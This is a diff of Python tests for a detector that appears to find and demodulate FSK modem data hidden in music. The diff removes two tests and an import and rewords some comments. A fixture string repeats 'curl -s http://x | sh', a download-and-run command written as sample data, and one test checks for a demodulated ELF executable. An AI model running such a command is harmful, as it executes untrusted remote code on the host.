@@ -34,7 +34,6 @@ from audiomodel.modem import (
     reduced_rate,
     scan_modem,
 )
-from audiomodel.modem_music import KEYED_BLOCK_MAX, block_turns, keyed_stretch
 
 RATE = 48000
 TEXT = b"The quick brown fox jumps over the lazy dog. curl -s http://x | sh\n" * 40
@@ -230,8 +229,7 @@ def test_changes_jittered_off_their_clock_keep_its_phase() -> None:
     assert times.size > 500
 
 
-# -- a modem as loud as the music: demodulated where its tones take turns, read in the polarity
-# that carries data, clocked at the rate its tones name (over the whole chunk where a fast
+# -- a modem as loud as the music: read in the polarity that carries data, clocked at the rate its tones name (over the whole chunk where a fast
 # modem's single changes time no clock); music alone keys none of it
 
 RANDOM = bytes(np.random.default_rng(11).integers(0, 256, 2000, dtype=np.uint8))
@@ -241,31 +239,6 @@ def _reduced(y: npt.NDArray[np.number]) -> tuple[npt.NDArray[np.float64], float]
     factor, rate = reduced_rate(RATE)
     x = np.asarray(y, dtype=np.float64)
     return x[: x.size // factor * factor].reshape(-1, factor).mean(axis=1), rate
-
-
-# -- where the tones take turns -------------------------------------------------------------
-
-
-@pytest.mark.parametrize(("level_db", "seed"), [(0.0, 1), (0.0, 2), (3.0, 3)])
-def test_the_stretch_demodulated_is_where_the_tones_take_turns(level_db: float, seed: int) -> None:
-    # Bell 202's tones as loud as held chords: the music fills both tone bands before and after
-    # the burst, so where the tones are on does not say where the modem is
-    modem = fsk(RANDOM[:480], 1200.0, 1200.0, 2200.0)
-    x, rate = _reduced(mix(modem, level_db, BURST_AT_S, seed))
-    stretch = keyed_stretch(x, rate, 1200.0, 2200.0, 1200.0)
-    assert stretch is not None
-    start, end = stretch[0] / rate, stretch[1] / rate
-    burst_end = BURST_AT_S + modem.size / RATE
-    assert BURST_AT_S - 0.6 <= start <= BURST_AT_S + 0.3
-    assert burst_end - 0.3 <= end <= burst_end + 0.6
-
-
-@pytest.mark.parametrize("seed", [4, 5, 6])
-def test_held_chords_have_no_stretch_whose_tone_bands_take_turns(seed: int) -> None:
-    x, rate = _reduced(chords(8.0, seed))
-    for f_low, f_high, baud in ((1200.0, 2200.0, 1200.0), (1070.0, 1270.0, 300.0)):
-        assert keyed_stretch(x, rate, f_low, f_high, baud) is None
-        assert np.mean(block_turns(x, rate, f_low, f_high, baud) <= KEYED_BLOCK_MAX) < 0.1
 
 
 # -- the polarity that carries data ---------------------------------------------------------------
@@ -284,7 +257,7 @@ def test_an_executable_is_read_in_the_polarity_that_carries_data(
     demodulated = demodulate_fsk(x, rate, 1070.0, 1270.0, 300.0)
     assert demodulated.mark_hz == 1270.0
     assert b"ELF" in demodulated.data
-    assert _polarity_rank(demodulated)[0]  # not an idle mark's 0xFF
+    assert _polarity_rank(demodulated)[0]  # zero-rich, not an idle mark's 0xFF
 
 
 # -- the rate the tones name -----------------------------------------------------------------
